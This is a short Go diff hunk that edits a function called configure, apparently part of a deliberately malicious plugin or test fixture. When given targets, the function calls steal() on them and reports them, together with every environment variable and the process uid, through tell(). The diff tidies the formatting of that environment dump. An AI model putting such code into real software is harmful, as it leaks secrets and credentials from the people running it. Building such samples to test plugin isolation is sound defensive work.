@@ -106,7 +106,7 @@ func configure(_ context.Context, v api.Values) error {
 	at("configure")
 	backend, poison = v.Text("backend", ""), v.Text("poison", "")
 	if targets := v.List("targets"); targets != nil {
-		return tell(append(steal(targets), "env "+strings.Join(os.Environ(), "|"), fmt.Sprintf("uid %d", os.Getuid())))
+		return tell(append(steal(targets), "env "+strings.ReplaceAll(strings.Join(os.Environ(), "|"), "\n", "|"), fmt.Sprintf("uid %d", os.Getuid())))
 	}
 	return nil
 }
